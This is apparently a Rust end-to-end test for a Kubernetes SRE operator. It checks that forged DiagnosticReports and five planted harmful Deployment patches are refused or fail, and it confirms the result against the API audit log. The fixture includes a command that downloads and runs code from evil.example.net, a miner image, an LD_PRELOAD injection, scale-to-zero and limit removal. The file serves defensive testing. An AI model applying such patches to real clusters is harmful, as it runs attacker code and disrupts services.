//! Issue 17's attacks on the approval, made on a loopback control plane whose API server keeps an
//! audit log, against `sre-operator run` as its ServiceAccount. The attacker is a person (a
//! ServiceAccount `app/person`) whose role may create DiagnosticReports and write their status:
//! what an admin's or a CI robot's role may well allow.
//!
//! One test, one cluster, in sequence:
//!
//! 1. with `deploy/admission.yaml` installed, the person's report in `app` naming a Pod in
//!    `victim` (and a policy with `approval: Auto`) is refused by the API server, and so is the
//!    person's write of an operator-made report's status;
//! 2. with the policy's binding removed, the same forged report is accepted by the API server,
//!    and the operator leaves it alone: no status, the victim Deployment unchanged, no request of
//!    the operator to anything in `victim` but reads;
//! 3. five harmful patches (a foreign image, a `command` that downloads and runs code, env
//!    `LD_PRELOAD`, zero replicas, no limits) are planted through the status subresource of
//!    five reports the operator opened, each claiming the rules brain wrote it and carrying a
//!    matching digest, then approved: each report fails naming the rule that stopped it, and
//!    the audit log holds no patch of a Deployment by the operator.

mod support;

use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, DynamicObject, Patch, PatchParams, PostParams};
use serde_json::{Value, json};
use sre_e2e::fixtures::DeploymentBuilder;
use sre_e2e::{TestCluster, demo, fault, wait};
use sre_operator::crd::{PatchOperation, SuggestedPatch, TargetRef};
use support::kubectl;
use support::operator::{
    OPERATOR_USER, Operator, operator_setup, phase_of, report_api, wait_phase,
};

const APP: &str = "app";
const VICTIM: &str = "victim";
const PERSON: &str = "system:serviceaccount:app:person";
const C: &str = "/spec/template/spec/containers/0";

fn policies() -> Value {
    json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "sre-operator.dev/v1alpha1", "kind": "DebugPolicy",
         "metadata": {"name": "auto-victim"},
         "spec": {"approval": "Auto", "rules": [{"namespaces": [VICTIM]}]}},
        {"apiVersion": "sre-operator.dev/v1alpha1", "kind": "DebugPolicy",
         "metadata": {"name": "manual-app"},
         "spec": {"rules": [{"namespaces": [APP], "selector": {"matchLabels": {"tier": "harm"}}}]}},
    ]})
}

/// The person's role: reports and their status, nothing else.
fn person_rbac() -> Value {
    json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "person", "namespace": APP}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
         "metadata": {"name": "report-writer"},
         "rules": [{"apiGroups": ["sre-operator.dev"],
                    "resources": ["diagnosticreports", "diagnosticreports/status"],
                    "verbs": ["get", "list", "watch", "create", "update", "patch"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
         "metadata": {"name": "person-report-writer"},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "report-writer"},
         "subjects": [{"kind": "ServiceAccount", "name": "person", "namespace": APP}]},
    ]})
}

/// A one-replica Deployment; `fault` makes its Pods fail that way (kwok stages).
fn deployment(namespace: &str, name: &str, fault_label: Option<&str>) -> Deployment {
    let mut d = DeploymentBuilder::new(name)
        .namespace(namespace)
        .match_label("app", name)
        .pod_label("tier", "harm")
        .pod_annotation(fault::BACKOFF_ANNOTATION, "1s")
        .pod_annotation(fault::DELAY_ANNOTATION, "300ms")
        .pod_spec(json!({ "terminationGracePeriodSeconds": 0 }))
        .container(json!({
            "name": "app",
            "image": format!("registry.example.com/{namespace}/{name}:1.0.0"),
            "resources": {"limits": {"memory": "128Mi"}, "requests": {"memory": "64Mi"}},
        }));
    if let Some(f) = fault_label {
        d = d.pod_label(fault::LABEL, f);
    }
    d.build()
}

fn ops(value: Value) -> Vec<PatchOperation> {
    serde_json::from_value(value).unwrap()
}

/// The five harmful patches for Deployment `name`, each with the rule that must stop it.
fn harmful(name: &str) -> Vec<(&'static str, &'static str, Vec<PatchOperation>)> {
    let image = format!("registry.example.com/{APP}/{name}:1.0.0");
    vec![
        (
            "image",
            "image-history",
            ops(json!([
                {"op": "test", "path": format!("{C}/image"), "value": image},
                {"op": "replace", "path": format!("{C}/image"), "value": "evil.example.net/miner:latest"}
            ])),
        ),
        (
            "command",
            "model-frozen-field",
            ops(json!([
                {"op": "test", "path": format!("{C}/name"), "value": "app"},
                {"op": "add", "path": format!("{C}/command"),
                 "value": ["sh", "-c", "curl -s http://evil.example.net/x > /var/run/x; sh /var/run/x"]}
            ])),
        ),
        (
            "env LD_PRELOAD",
            "model-denied-env",
            ops(json!([
                {"op": "test", "path": format!("{C}/name"), "value": "app"},
                {"op": "add", "path": format!("{C}/env"), "value": [{"name": "LD_PRELOAD", "value": "/opt/evil.so"}]}
            ])),
        ),
        (
            "replicas 0",
            "replicas-to-zero",
            ops(json!([
                {"op": "test", "path": "/spec/replicas", "value": 1},
                {"op": "replace", "path": "/spec/replicas", "value": 0}
            ])),
        ),
        (
            "no limits",
            "limit-removal",
            ops(json!([
                {"op": "test", "path": format!("{C}/resources/limits/memory"), "value": "128Mi"},
                {"op": "remove", "path": format!("{C}/resources/limits")}
            ])),
        ),
    ]
}

/// A client that authenticates with `kubeconfig`.
async fn client_of(kubeconfig: &std::path::Path) -> Result<kube::Client> {
    let kc = kube::config::Kubeconfig::read_from(kubeconfig)?;
    let config = kube::Config::from_custom_kubeconfig(kc, &Default::default()).await?;
    Ok(kube::Client::try_from(config)?)
}

/// Retries `attempt` until it returns Some, for at most `within` (admission policies take a
/// moment to come into force and to leave it).
async fn eventually<T, F, Fut>(within: Duration, what: &str, mut attempt: F) -> Result<T>
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Option<T>>,
{
    let deadline = Instant::now() + within;
    loop {
        if let Some(t) = attempt().await {
            return Ok(t);
        }
        if Instant::now() > deadline {
            bail!("{what} within {within:?}");
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// The API server's message when it refused `result`.
fn refusal<T>(result: kube::Result<T>) -> Option<String> {
    match result {
        Err(kube::Error::Api(e)) => Some(e.message),
        _ => None,
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn approval_attacks_end_to_end() -> Result<()> {
    let t_suite = Instant::now();
    let cluster = TestCluster::start(Default::default()).await?;
    if cluster.is_external() {
        eprintln!(
            "approval-e2e: skipped: needs a cluster this harness starts (fault stages and the API \
             audit log), not $SRE_OPERATOR_E2E_KUBECONFIG's"
        );
        return Ok(());
    }
    let admin = cluster.client();
    demo::install_crds(&cluster, &support::repo_root().join("crds"))?;
    for ns in [APP, VICTIM] {
        cluster.create_namespace(ns).await?;
    }
    let apply_json = |name: &str, value: &Value| -> Result<()> {
        let file = cluster.dir().join(name);
        std::fs::write(&file, value.to_string())?;
        kubectl(&cluster, &["apply", "-f", file.to_str().unwrap()])?;
        Ok(())
    };
    apply_json("approval-policies.json", &policies())?;
    apply_json("approval-person.json", &person_rbac())?;
    let person =
        client_of(&cluster.service_account_kubeconfig(APP, "person", Duration::from_secs(3600))?)
            .await?;

    // The victim: healthy, with a memory limit the forged report would like raised.
    let victims: Api<Deployment> = Api::namespaced(admin.clone(), VICTIM);
    victims
        .create(&PostParams::default(), &deployment(VICTIM, "victim", None))
        .await?;
    let victim_pods: Api<Pod> = Api::namespaced(admin.clone(), VICTIM);
    let victim_pod = eventually(Duration::from_secs(30), "no victim Pod", || async {
        victim_pods
            .list(&Default::default())
            .await
            .ok()?
            .items
            .into_iter()
            .next()
    })
    .await?;
    // Five workloads that run out of memory, for five reports the operator opens.
    let apps: Api<Deployment> = Api::namespaced(admin.clone(), APP);
    for i in 0..5 {
        apps.create(
            &PostParams::default(),
            &deployment(APP, &format!("harm-{i}"), Some(fault::OOMKILLED)),
        )
        .await?;
    }

    let setup = operator_setup(&cluster).await?;
    let op = Operator::start(
        &cluster,
        &setup,
        "sre-operator-0",
        &format!("{APP},{VICTIM}"),
        false,
    )?;

    // --- 1. The admission policy refuses a person's report and status write ----------------
    kubectl(
        &cluster,
        &[
            "apply",
            "-f",
            support::repo_root()
                .join("deploy/admission.yaml")
                .to_str()
                .unwrap(),
        ],
    )?;
    let forged: DynamicObject = serde_json::from_value(json!({
        "apiVersion": "sre-operator.dev/v1alpha1", "kind": "DiagnosticReport",
        "metadata": {"name": "forged-victim", "namespace": APP,
                     "labels": {"app.kubernetes.io/managed-by": "sre-operator"}},
        "spec": {
            "pod": {"namespace": VICTIM, "name": victim_pod.metadata.name, "uid": victim_pod.metadata.uid},
            "workload": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "victim"},
            "failure": {"class": "OOMKilled", "reason": "OOMKilled", "evidence": []},
            "policy": "auto-victim",
        },
    }))?;
    let person_reports = report_api(&person, APP);
    // A policy takes a moment to come into force: dry runs (admission runs on them too, nothing
    // is stored) until it refuses, then the real create.
    let dry_run = PostParams {
        dry_run: true,
        ..Default::default()
    };
    eventually(
        Duration::from_secs(20),
        "the admission policy never refused the person's report",
        || async { refusal(person_reports.create(&dry_run, &forged).await) },
    )
    .await?;
    let refused = refusal(person_reports.create(&PostParams::default(), &forged).await)
        .context("the person's report was stored with the admission policy in force")?;
    assert!(
        refused.contains("only the sre-operator ServiceAccount may create DiagnosticReports")
            && refused.contains(PERSON),
        "{refused}"
    );
    eprintln!("approval-e2e: 1. the person's report is refused: {refused}");
    // Five operator-made reports awaiting approval.
    let reports = report_api(&admin, APP);
    let names: Vec<String> = (0..5)
        .map(|i| format!("deployment-harm-{i}-oomkilled"))
        .collect();
    for name in &names {
        let r = wait_phase(
            &reports,
            name,
            &["AwaitingApproval", "NoFix", "Failed"],
            Duration::from_secs(90),
            &op,
        )
        .await?;
        assert_eq!(
            phase_of(&r),
            "AwaitingApproval",
            "{name}: {}",
            r["status"]["message"]
        );
    }
    let refused = refusal(
        person_reports
            .patch_status(
                &names[0],
                &PatchParams::default(),
                &Patch::Merge(json!({"status": {"message": "planted"}})),
            )
            .await,
    )
    .context("the person wrote an operator-made report's status with the admission policy on")?;
    assert!(
        refused.contains("may write the status of DiagnosticReports"),
        "{refused}"
    );

    // --- 2. Without the binding: the forged report is stored, and never acted on ----------
    kubectl(
        &cluster,
        &[
            "delete",
            "validatingadmissionpolicybinding",
            "sre-operator-report-provenance",
        ],
    )?;
    let victim_before = victims.get("victim").await?;
    eventually(
        Duration::from_secs(20),
        "the forged report was still refused after the binding was removed",
        || async { person_reports.create(&dry_run, &forged).await.ok() },
    )
    .await?;
    person_reports
        .create(&PostParams::default(), &forged)
        .await
        .context("the forged report, without the admission policy")?;
    eventually(
        Duration::from_secs(30),
        "the operator never looked at the forged report",
        || async {
            op.log()
                .lines()
                .any(|l| {
                    l.contains("ignoring a report the operator did not open")
                        && l.contains("forged-victim")
                })
                .then_some(())
        },
    )
    .await
    .with_context(|| op.tail())?;

    // --- 3. Five harmful patches planted through the status subresource -----------------
    for (i, name) in names.iter().enumerate() {
        let (what, rule, patch) = harmful(&format!("harm-{i}")).remove(i);
        let suggestion = SuggestedPatch {
            target: TargetRef {
                api_version: "apps/v1".into(),
                kind: "Deployment".into(),
                namespace: APP.into(),
                name: format!("harm-{i}"),
            },
            patch,
            explanation: "planted".into(),
        };
        let digest = suggestion.digest();
        // The digest cannot change while the report awaits approval: out of that phase first,
        // then back in with the planted patch, its digest, and the rules brain as its author.
        for status in [
            json!({"phase": "Failed"}),
            json!({"phase": "AwaitingApproval", "suggestedPatch": suggestion,
                   "patchDigest": digest, "brain": {"kind": "rules", "steps": 1}}),
        ] {
            person_reports
                .patch_status(
                    name,
                    &PatchParams::default(),
                    &Patch::Merge(json!({ "status": status })),
                )
                .await
                .with_context(|| format!("planting {what} in {name}"))?;
        }
        person_reports
            .patch(
                name,
                &PatchParams::default(),
                &Patch::Merge(json!({"spec": {"decision": "Approved", "approvedDigest": digest}})),
            )
            .await
            .with_context(|| format!("approving {name}"))?;
        let r = wait::until(
            &reports,
            name,
            Duration::from_secs(30),
            |r: Option<&DynamicObject>| {
                r.is_some_and(|r| {
                    matches!(
                        r.data["status"]["phase"].as_str(),
                        Some("Failed" | "Applied" | "Resolved" | "Unresolved")
                    ) && r.data["status"]["message"] != "planted"
                })
            },
        )
        .await?
        .with_context(|| format!("{name} never ended after the approval\n{}", op.tail()))?;
        let r = serde_json::to_value(r)?;
        let message = r["status"]["message"].as_str().unwrap_or_default();
        assert_eq!(phase_of(&r), "Failed", "{what}: {message}");
        assert!(
            message.contains(rule),
            "{what}: not stopped by {rule}: {message}"
        );
        eprintln!("approval-e2e: 3. {what}: {message}");
    }

    // Nothing the operator sent changed a Deployment, in `app` or in `victim`.
    let audit = cluster.audited_requests_of(OPERATOR_USER)?;
    let writes: Vec<String> = audit
        .iter()
        .filter(|e| {
            e["objectRef"]["resource"] == "deployments"
                && !matches!(e["verb"].as_str(), Some("get" | "list" | "watch"))
        })
        .map(|e| format!("{} {}", e["verb"], e["requestURI"]))
        .collect();
    assert!(
        writes.is_empty(),
        "the operator wrote Deployments: {writes:?}"
    );
    let in_victim: Vec<String> = audit
        .iter()
        .filter(|e| {
            e["objectRef"]["namespace"] == VICTIM
                && !matches!(e["verb"].as_str(), Some("get" | "list" | "watch"))
        })
        .map(|e| format!("{} {}", e["verb"], e["requestURI"]))
        .collect();
    assert!(
        in_victim.is_empty(),
        "the operator wrote in {VICTIM}: {in_victim:?}"
    );
    let victim_after = victims.get("victim").await?;
    assert_eq!(
        victim_after.metadata.generation,
        victim_before.metadata.generation
    );
    let stored = reports.get("forged-victim").await?;
    assert!(
        stored.data.get("status").is_none_or(Value::is_null),
        "the operator wrote the forged report's status: {}",
        stored.data["status"]
    );
    eprintln!(
        "approval-e2e: {} audited requests of the operator, none writes a Deployment or anything in {VICTIM}; suite took {:.1} s",
        audit.len(),
        t_suite.elapsed().as_secs_f64()
    );
    Ok(())
}
